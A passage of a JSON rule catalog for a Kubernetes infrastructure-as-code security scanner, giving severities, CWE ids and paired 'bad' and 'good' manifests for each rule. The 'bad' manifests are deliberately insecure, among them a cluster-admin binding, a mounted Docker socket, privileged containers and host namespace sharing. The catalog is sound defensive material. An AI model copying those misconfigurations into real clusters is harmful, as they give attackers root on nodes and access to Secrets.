    "title": "Binding grants cluster-admin",
    "severity": "high",
    "cwe": [
      "CWE-269"
    ],
    "description": "The `cluster-admin` ClusterRole allows every action on every resource. Bound with a ClusterRoleBinding it is full control of the cluster; with a RoleBinding, full control of the namespace (Secrets, RBAC, workloads). Applications and CI accounts rarely need it.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: ci-deployer\nsubjects:\n  - kind: ServiceAccount\n    name: ci\n    namespace: ci\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: ci-deployer\n  namespace: shop\nsubjects:\n  - kind: ServiceAccount\n    name: ci\n    namespace: ci\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: edit\n",
      "fix": "Bind a role with the permissions the subject needs (the built-in `edit` or `view`, or a custom Role) in the namespaces it works in."
    },
    "references": [
      "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#user-facing-roles",
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-configmap-secret",
    "title": "Secret stored in a ConfigMap",
    "severity": "medium",
    "cwe": [
      "CWE-312",
      "CWE-798"
    ],
    "description": "ConfigMaps are not meant for secrets: they are readable by far more subjects (many roles grant `get configmaps`), printed by tooling and never encrypted at rest. A secret-like key (PASSWORD, TOKEN, API_KEY, ...) with a literal value, a private key or a URL with an inline password in a ConfigMap is reported.",
    "help": {
      "bad": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web-config\ndata:\n  LOG_LEVEL: info\n  API_TOKEN: \"9f8e7d6c5b4a39281706f5e4d3c2b1a0\"\n",
      "good": "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: web-config\ndata:\n  LOG_LEVEL: info\n  API_TOKEN_FILE: /etc/secrets/api/token\n",
      "fix": "Move the value into a Secret supplied from a secret store (and out of the repository), and rotate it."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/configmap/",
      "https://kubernetes.io/docs/concepts/security/secrets-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A07:2021",
      "secrets"
    ],
    "precision": "medium",
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-container-runtime-socket",
    "title": "Pod mounts the container runtime socket",
    "severity": "critical",
    "cwe": [
      "CWE-250",
      "CWE-668"
    ],
    "description": "The Docker, containerd or CRI-O socket is the runtime API of the node: whoever can write to it can start a privileged container with the host filesystem mounted, which is root on the node.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: builder\nspec:\n  template:\n    spec:\n      containers:\n        - name: builder\n          image: registry.example.com/builder:3.1.0\n          volumeMounts:\n            - name: docker\n              mountPath: /var/run/docker.sock\n      volumes:\n        - name: docker\n          hostPath:\n            path: /var/run/docker.sock\n            type: Socket\n",
      "good": "apiVersion: apps/v1\nkind: DaemonSet\nmetadata:\n  name: builder\nspec:\n  template:\n    spec:\n      containers:\n        - name: builder\n          image: registry.example.com/builder:3.1.0\n          volumeMounts:\n            - name: workspace\n              mountPath: /workspace\n      volumes:\n        - name: workspace\n          emptyDir: {}\n",
      "fix": "Do not mount the runtime socket; build images with a daemonless builder (BuildKit rootless, Kaniko, Buildah) instead."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath",
      "https://docs.docker.com/engine/security/#docker-daemon-attack-surface"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_27"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-cpu-limits-missing",
    "title": "Container has no CPU limit",
    "severity": "low",
    "cwe": [
      "CWE-770"
    ],
    "description": "Without a CPU limit, one container can use every CPU of the node and starve its neighbours (a noisy neighbour or a denial of service after compromise). A LimitRange default in the scanned manifests counts as a limit.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            limits:\n              memory: 256Mi\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            limits:\n              cpu: 500m\n              memory: 256Mi\n",
      "fix": "Set `resources.limits.cpu` on every container (or a LimitRange default for the namespace)."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/",
      "https://kubernetes.io/docs/concepts/policy/limit-range/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_11"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-cpu-requests-missing",
    "title": "Container has no CPU request",
    "severity": "low",
    "cwe": [
      "CWE-770"
    ],
    "description": "Without a CPU request (or a limit, which Kubernetes copies into the request), the scheduler places the pod as if it needed no CPU, and under contention the container is the first to be throttled. A LimitRange default in the scanned manifests counts.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            requests:\n              memory: 128Mi\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            requests:\n              cpu: 100m\n              memory: 128Mi\n",
      "fix": "Set `resources.requests.cpu` on every container."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/",
      "https://kubernetes.io/docs/concepts/policy/limit-range/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_10"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-dangerous-capability",
    "title": "Container adds a dangerous Linux capability",
    "severity": "high",
    "cwe": [
      "CWE-250"
    ],
    "description": "Capabilities such as SYS_ADMIN (mount, namespaces: nearly root), NET_ADMIN (reconfigure the network), SYS_PTRACE (read other processes), SYS_MODULE (load kernel modules), NET_RAW (spoof packets) or ALL give the container powers that break its isolation from the node. The Baseline Pod Security Standard forbids adding them.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        capabilities:\n          add: [\"SYS_ADMIN\"]\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        capabilities:\n          drop: [\"ALL\"]\n          add: [\"NET_BIND_SERVICE\"]\n",
      "fix": "Remove the capability from `capabilities.add`; find the narrower capability or a design that does not need it."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
      "https://man7.org/linux/man-pages/man7/capabilities.7.html"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_25",
      "CKV_K8S_39"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-default-namespace",
    "title": "Workload deployed to the default namespace",
    "severity": "low",
    "cwe": [
      "CWE-653"
    ],
    "description": "The `default` namespace is where everything without a namespace lands: workloads there share quotas, NetworkPolicies and RBAC with whatever else is put there, which defeats namespace isolation. Only an explicit `namespace: default` is reported; manifests without a namespace get it at apply time.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: default\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "fix": "Deploy each application to its own namespace, with its own RBAC, quotas and NetworkPolicies."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/overview/working-with-objects/namespaces/",
      "https://kubernetes.io/docs/concepts/security/multi-tenancy/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_21"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-default-service-account-automount",
    "title": "Default ServiceAccount automounts its token",
    "severity": "low",
    "cwe": [
      "CWE-250"
    ],
    "description": "Every pod that does not name a service account uses the namespace's `default` ServiceAccount. When a manifest defines that account, it should set `automountServiceAccountToken: false`, so that no pod receives an API token it did not ask for.",
    "help": {
      "bad": "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: default\n  namespace: shop\n",
      "good": "apiVersion: v1\nkind: ServiceAccount\nmetadata:\n  name: default\n  namespace: shop\nautomountServiceAccountToken: false\n",
      "fix": "Set `automountServiceAccountToken: false` on the `default` ServiceAccount and give pods that need the API their own account."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting",
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_41"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-default-service-account-binding",
    "title": "Role bound to a default service account",
    "severity": "medium",
    "cwe": [
      "CWE-269"
    ],
    "description": "Permissions bound to the `default` ServiceAccount are granted to every pod of the namespace that does not name its own account, including pods added later for unrelated purposes. Roles belong to a dedicated account used only by the workload that needs them.",
    "help": {
      "bad": "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: read-pods\n  namespace: shop\nsubjects:\n  - kind: ServiceAccount\n    name: default\n    namespace: shop\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: Role\n  name: pod-reader\n",
      "good": "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata:\n  name: read-pods\n  namespace: shop\nsubjects:\n  - kind: ServiceAccount\n    name: inventory\n    namespace: shop\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: Role\n  name: pod-reader\n",
      "fix": "Create a ServiceAccount for the workload, bind the role to it and set `serviceAccountName` in its pod spec."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/",
      "https://kubernetes.io/docs/reference/access-authn-authz/rbac/#service-account-permissions"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_42"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-default-service-account-token",
    "title": "Pod mounts the default service account token",
    "severity": "low",
    "cwe": [
      "CWE-250"
    ],
    "description": "A pod without `serviceAccountName` runs as the namespace's `default` service account, and unless `automountServiceAccountToken: false` its API token is mounted into every container. Most applications never call the Kubernetes API; for them the token is only something an attacker can steal, and any role later bound to `default` is granted to every such pod. The pod's own setting wins; otherwise a `default` ServiceAccount in the scanned manifests with `automountServiceAccountToken: false` counts.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      automountServiceAccountToken: false\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "fix": "Set `automountServiceAccountToken: false` in the pod spec; pods that call the API get their own ServiceAccount with a minimal Role."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/configure-service-account/#opt-out-of-api-credential-automounting",
      "https://kubernetes.io/docs/concepts/security/rbac-good-practices/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A01:2021"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_38"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-host-ipc",
    "title": "Pod shares the host IPC namespace",
    "severity": "high",
    "cwe": [
      "CWE-668"
    ],
    "description": "`hostIPC: true` gives the containers access to the shared memory and IPC objects of every process on the node, which can leak or corrupt data of other workloads and host daemons.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  hostIPC: true\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "fix": "Remove `hostIPC: true`."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_18"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-host-network",
    "title": "Pod shares the host network namespace",
    "severity": "high",
    "cwe": [
      "CWE-668"
    ],
    "description": "`hostNetwork: true` puts the pod on the node's network stack: it can bind to any node port, reach services listening on localhost of the node (kubelet, metadata endpoints) and sniff traffic, and NetworkPolicies no longer isolate it.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  hostNetwork: true\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      ports:\n        - containerPort: 8080\n",
      "fix": "Remove `hostNetwork: true` and expose the pod through a Service."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_19"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-host-path-volume",
    "title": "Pod mounts a hostPath volume",
    "severity": "medium",
    "cwe": [
      "CWE-668"
    ],
    "description": "A hostPath volume mounts a directory of the node into the pod. It ties the pod to the node, shares data across pods scheduled there, and with write access lets the container change host files. Sensitive host paths and container runtime sockets have their own, stricter rules.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      volumeMounts:\n        - name: cache\n          mountPath: /cache\n  volumes:\n    - name: cache\n      hostPath:\n        path: /data/cache\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      volumeMounts:\n        - name: cache\n          mountPath: /cache\n  volumes:\n    - name: cache\n      emptyDir: {}\n",
      "fix": "Use an `emptyDir`, a PersistentVolumeClaim or a ConfigMap/Secret volume instead of a hostPath."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/storage/volumes/#hostpath",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-host-pid",
    "title": "Pod shares the host process ID namespace",
    "severity": "high",
    "cwe": [
      "CWE-668"
    ],
    "description": "`hostPID: true` lets the containers see every process of the node, read their environment and command lines (often with secrets), and with enough privileges signal or ptrace them.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  hostPID: true\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  hostPID: false\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "fix": "Remove `hostPID: true`."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_17"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-host-port",
    "title": "Container binds a host port",
    "severity": "low",
    "cwe": [
      "CWE-668"
    ],
    "description": "A `hostPort` opens the port on the node's own address, outside the Service and NetworkPolicy model, and limits where the pod can be scheduled. (Pods with `hostNetwork` are reported by k8s-host-network instead.)",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      ports:\n        - containerPort: 8080\n          hostPort: 80\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      ports:\n        - containerPort: 8080\n",
      "fix": "Remove `hostPort` and expose the pod through a Service (ClusterIP, or a LoadBalancer/Ingress when it must be reachable from outside)."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/overview/#services",
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_26"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-image-not-pinned",
    "title": "Image is not pinned by digest",
    "severity": "low",
    "cwe": [
      "CWE-494"
    ],
    "description": "Tags are mutable: whoever can push to the repository can change what `web:1.4.2` means. A digest (`@sha256:...`) names exactly one image, so the cluster runs what was reviewed and scanned.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2@sha256:4b3f2e5a1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f\n",
      "fix": "Reference images by digest (tools such as Renovate or kustomize `images:` can keep digests up to date)."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/containers/images/#image-names",
      "https://slsa.dev/spec/v1.0/threats"
    ],
    "tags": [
      "kubernetes",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_43"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-image-pull-policy",
    "title": "Mutable image tag without imagePullPolicy: Always",
    "severity": "low",
    "cwe": [
      "CWE-494"
    ],
    "description": "With a floating tag (`latest` or none) and `imagePullPolicy: IfNotPresent` or `Never`, each node runs whatever copy it cached, so pods of one workload run different code, and a pod can use a private image cached on the node without presenting pull credentials.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:latest\n      imagePullPolicy: IfNotPresent\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:latest\n      imagePullPolicy: Always\n",
      "fix": "Pin the image to a version or digest; if the tag must float, set `imagePullPolicy: Always`."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/containers/images/#image-pull-policy",
      "https://kubernetes.io/docs/reference/access-authn-authz/admission-controllers/#alwayspullimages"
    ],
    "tags": [
      "kubernetes",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_15"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-image-tag-latest",
    "title": "Image uses the latest tag or no tag",
    "severity": "medium",
    "cwe": [
      "CWE-1357"
    ],
    "description": "An image without a tag, or tagged `latest`, resolves to whatever was pushed last. Deployments are not reproducible, rollbacks do not roll back, and a compromised or broken push reaches production on the next pod restart.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:latest\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "fix": "Pin the image to a version tag, or better to a digest (`image: registry.example.com/web@sha256:...`)."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/containers/images/#image-names",
      "https://kubernetes.io/docs/concepts/configuration/overview/#container-images"
    ],
    "tags": [
      "kubernetes",
      "owasp:A08:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_14"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-ingress-nginx-snippet",
    "title": "Ingress injects raw NGINX configuration (snippet annotation)",
    "severity": "medium",
    "cwe": [
      "CWE-94"
    ],
    "description": "Snippet annotations (`configuration-snippet`, `server-snippet`, ...) paste raw configuration into the NGINX controller, which runs with access to every Secret of the cluster. Whoever can edit an Ingress can then read those Secrets (CVE-2021-25742) or run Lua code; ingress-nginx disables snippets by default for this reason.",
    "help": {
      "bad": "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\n  annotations:\n    nginx.ingress.kubernetes.io/configuration-snippet: |\n      more_set_headers \"X-Frame-Options: DENY\";\nspec:\n  ingressClassName: nginx\n  tls:\n    - hosts: [\"shop.example.com\"]\n      secretName: shop-example-com-tls\n  rules:\n    - host: shop.example.com\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n",
      "good": "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\n  annotations:\n    nginx.ingress.kubernetes.io/custom-headers: shop/security-headers\nspec:\n  ingressClassName: nginx\n  tls:\n    - hosts: [\"shop.example.com\"]\n      secretName: shop-example-com-tls\n  rules:\n    - host: shop.example.com\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n",
      "fix": "Use the dedicated annotations or controller-wide ConfigMap settings instead of snippets, and keep `allow-snippet-annotations` off."
    },
    "references": [
      "https://github.com/kubernetes/ingress-nginx/issues/7837",
      "https://kubernetes.github.io/ingress-nginx/user-guide/nginx-configuration/annotations/#configuration-snippet"
    ],
    "tags": [
      "kubernetes",
      "owasp:A03:2021"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_153"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-ingress-without-tls",
    "title": "Ingress without TLS",
    "severity": "low",
    "cwe": [
      "CWE-319"
    ],
    "description": "An Ingress without a `tls` section serves its hosts over plain HTTP: credentials, cookies and data cross the network in clear text and can be modified on the way. Ingresses whose controller gets the certificate from an annotation (AWS ALB, GCE pre-shared certificates, ...) are not reported.",
    "help": {
      "bad": "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\nspec:\n  rules:\n    - host: shop.example.com\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n",
      "good": "apiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata:\n  name: web\nspec:\n  tls:\n    - hosts: [\"shop.example.com\"]\n      secretName: shop-example-com-tls\n  rules:\n    - host: shop.example.com\n      http:\n        paths:\n          - path: /\n            pathType: Prefix\n            backend:\n              service:\n                name: web\n                port:\n                  number: 80\n",
      "fix": "Add a `tls` section with the hosts and the Secret holding the certificate (cert-manager can issue and renew it)."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/services-networking/ingress/#tls",
      "https://cert-manager.io/docs/usage/ingress/"
    ],
    "tags": [
      "kubernetes",
      "owasp:A02:2021"
    ],
    "precision": "medium",
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-liveness-probe-missing",
    "title": "Container has no liveness probe",
    "severity": "low",
    "cwe": [
      "CWE-754"
    ],
    "description": "Without a liveness probe, a container that hangs (deadlock, exhausted thread pool) keeps running and receiving traffic until someone notices; the kubelet restarts a container only when its liveness probe fails. Jobs and CronJobs are not checked.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          livenessProbe:\n            httpGet:\n              path: /healthz\n              port: 8080\n",
      "fix": "Add a `livenessProbe` (HTTP, TCP, gRPC or exec) that reflects whether the application is healthy."
    },
    "references": [
      "https://kubernetes.io/docs/tasks/configure-pod-container/configure-liveness-readiness-startup-probes/"
    ],
    "tags": [
      "kubernetes",
      "availability"
    ],
    "precision": "medium",
    "checkov": [
      "CKV_K8S_8"
    ],
    "platform": "kubernetes"
  },
  {
    "id": "iac/k8s-memory-limits-missing",
    "title": "Container has no memory limit",
    "severity": "medium",
    "cwe": [
      "CWE-770"
    ],
    "description": "Without a memory limit, one container can exhaust the memory of the node, which makes the kernel kill other workloads (a denial of service after a leak or a compromise). A LimitRange default in the scanned manifests counts as a limit.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            limits:\n              cpu: 500m\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            limits:\n              cpu: 500m\n              memory: 256Mi\n",
      "fix": "Set `resources.limits.memory` on every container (or a LimitRange default for the namespace)."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/",
      "https://kubernetes.io/docs/concepts/policy/limit-range/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_12"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-memory-requests-missing",
    "title": "Container has no memory request",
    "severity": "low",
    "cwe": [
      "CWE-770"
    ],
    "description": "Without a memory request (or a limit, which Kubernetes copies into the request), the scheduler can overcommit the node, and the pod is among the first evicted under memory pressure. A LimitRange default in the scanned manifests counts.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            requests:\n              cpu: 100m\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n          resources:\n            requests:\n              cpu: 100m\n              memory: 128Mi\n",
      "fix": "Set `resources.requests.memory` on every container."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/configuration/manage-resources-containers/",
      "https://kubernetes.io/docs/concepts/policy/limit-range/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_13"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-network-policy-missing",
    "title": "No NetworkPolicy for the workload's namespace",
    "severity": "low",
    "cwe": [
      "CWE-923"
    ],
    "description": "Without a NetworkPolicy, every pod can reach every other pod in the cluster, and a compromised pod can move laterally to databases and internal APIs. Workloads (not Jobs, CronJobs or host-network pods) are reported only when the scanned manifests contain no NetworkPolicy (or Cilium/Calico/admin network policy) for their namespace; a policy without a namespace counts for every namespace.",
    "help": {
      "bad": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n",
      "good": "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\n  namespace: shop\nspec:\n  template:\n    spec:\n      containers:\n        - name: app\n          image: registry.example.com/web:1.4.2\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata:\n  name: default-deny\n  namespace: shop\nspec:\n  podSelector: {}\n  policyTypes: [\"Ingress\", \"Egress\"]\n",
      "fix": "Add a default-deny NetworkPolicy to the namespace and allow the traffic each workload needs."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/services-networking/network-policies/",
      "https://kubernetes.io/docs/concepts/services-networking/network-policies/#default-policies"
    ],
    "precision": "medium",
    "checkov": [
      "CKV2_K8S_6"
    ],
    "platform": "kubernetes",
    "tags": [
      "kubernetes",
      "owasp:A05:2021"
    ]
  },
  {
    "id": "iac/k8s-privileged-container",
    "title": "Privileged container",
    "severity": "high",
    "cwe": [
      "CWE-250"
    ],
    "description": "A privileged container runs with every Linux capability and access to all host devices: it is root on the node. A compromise of the application is a compromise of the node and of every pod on it.",
    "help": {
      "bad": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        privileged: true\n",
      "good": "apiVersion: v1\nkind: Pod\nmetadata:\n  name: web\nspec:\n  containers:\n    - name: app\n      image: registry.example.com/web:1.4.2\n      securityContext:\n        privileged: false\n",
      "fix": "Remove `privileged: true`; if the container needs one kernel feature, add only that capability."
    },
    "references": [
      "https://kubernetes.io/docs/concepts/security/pod-security-standards/",
      "https://kubernetes.io/docs/tasks/configure-pod-container/security-context/"
    ],
    "precision": "high",
    "checkov": [
      "CKV_K8S_16"
    ],
